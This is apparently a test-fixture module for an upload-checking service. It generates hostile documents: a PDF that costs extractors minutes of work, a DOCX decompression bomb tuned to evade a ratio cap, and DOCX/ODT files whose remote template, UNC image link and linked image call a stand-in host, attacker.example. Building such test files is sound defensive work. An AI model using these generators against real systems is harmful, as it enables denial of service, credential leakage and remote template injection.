"""Hostile files built by the tests themselves: the shapes an attack battery uploaded."""

import functools
import io
import os
import zipfile
import zlib

from tests.factories import DOCX_TYPES

#: the standard anti-virus test file (harmless, detected by every scanner as a test)
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
REL_TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def shared_stream_pdf(pages: int = 100, stream_mib: int = 4) -> bytes:
    """`pages` pages that all draw the same compressed content stream of `stream_mib` MiB of
    text operators: a few KB on disk, minutes of work for a text extractor."""
    line = b"BT /F1 1 Tf 0 0 Td (a b c d e f g h) Tj ET\n"
    content = zlib.compress(line * (stream_mib * 1024 * 1024 // len(line)), 9)
    kids = " ".join(f"{4 + i} 0 R" for i in range(pages))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        f"<< /Type /Pages /Kids [{kids}] /Count {pages} >>".encode(),
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(content)
        + content
        + b"\nendstream",
    ]
    font = 4 + pages
    for _ in range(pages):
        objects.append(
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 3 0 R "
            b"/Resources << /Font << /F1 %d 0 R >> >> >>" % font
        )
    objects.append(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(
        b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    )
    return out.getvalue()


def docx(body: str = "", *, rels: dict[str, str] | None = None, extra: dict | None = None):
    """A minimal DOCX; `rels` maps .rels member names to their <Relationship> elements."""
    document = f'<w:document xmlns:w="{W_NS}"><w:body>{body}</w:body></w:document>'
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", DOCX_TYPES)
        archive.writestr("word/document.xml", document)
        for name, relationships in (rels or {}).items():
            archive.writestr(
                name,
                f'<?xml version="1.0"?><Relationships xmlns="{REL_NS}">{relationships}'
                "</Relationships>",
            )
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return buffer.getvalue()


def relationship(kind: str, target: str, external: bool = True, rid: str = "rId1") -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rid}" Type="{REL_TYPES}/{kind}" Target="{target}"{mode}/>'


def remote_template_docx() -> bytes:
    """Settings that point to a template on a server: Word fetches it when the file opens."""
    return docx(
        "<w:p><w:r><w:t>Protokols</w:t></w:r></w:p>",
        rels={
            "word/_rels/settings.xml.rels": relationship(
                "attachedTemplate", "https://attacker.example/t.dotm"
            )
        },
        extra={
            "word/settings.xml": f'<w:settings xmlns:w="{W_NS}"><w:attachedTemplate '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
            'r:id="rId1"/></w:settings>'
        },
    )


def linked_image_docx() -> bytes:
    return docx(
        "<w:p><w:r><w:t>Attēls</w:t></w:r></w:p>",
        rels={
            "word/_rels/document.xml.rels": relationship(
                "image", "file://///attacker.example/share/x.png"
            )
        },
    )


def hyperlink_docx() -> bytes:
    """A link to a web page: harmless, Word opens nothing by itself."""
    return docx(
        "<w:p><w:r><w:t>Skatīt vietni</w:t></w:r></w:p>",
        rels={"word/_rels/document.xml.rels": relationship("hyperlink", "https://example.org/")},
    )


@functools.cache
def inflated_docx(unpacked_mib: int = 92, padding_mib: float = 1.1) -> bytes:
    """document.xml that unpacks to `unpacked_mib` MiB, beside a stored member of random bytes
    that keeps the archive's overall ratio under a ratio cap."""
    paragraph = b"<w:p><w:r><w:t>aaaaaaaaaaaaaaaa</w:t></w:r></w:p>"
    chunk = paragraph * (1024 * 1024 // len(paragraph))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", DOCX_TYPES)
        archive.writestr(
            "word/media/padding.bin",
            os.urandom(int(padding_mib * 1024 * 1024)),
            compress_type=zipfile.ZIP_STORED,
        )
        with archive.open("word/document.xml", "w") as member:
            member.write(f'<w:document xmlns:w="{W_NS}"><w:body>'.encode())
            for _ in range(unpacked_mib):
                member.write(chunk)
            member.write(b"</w:body></w:document>")
    return buffer.getvalue()


def odt(body: str, namespaces: str = "", extra: dict | None = None) -> bytes:
    """An ODT whose text is `body` (ODF markup), with `extra` members beside content.xml."""
    content = (
        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
        ' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
        ' xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"'
        ' xmlns:xlink="http://www.w3.org/1999/xlink"'
        f"{namespaces}><office:body><office:text>{body}</office:text></office:body>"
        "</office:document-content>"
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "mimetype", "application/vnd.oasis.opendocument.text", compress_type=zipfile.ZIP_STORED
        )
        archive.writestr("content.xml", content)
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return buffer.getvalue()


def linked_image_odt(href: str = "http://attacker.example/x.png") -> bytes:
    return odt(
        '<text:p>Attēls<draw:frame><draw:image xlink:href="'
        + href
        + '" xlink:type="simple"/></draw:frame></text:p>'
    )


def hyperlink_odt() -> bytes:
    return odt(
        '<text:p>Skatīt <text:a xlink:type="simple" xlink:href="https://example.org/">'
        "vietni</text:a></text:p>"
    )
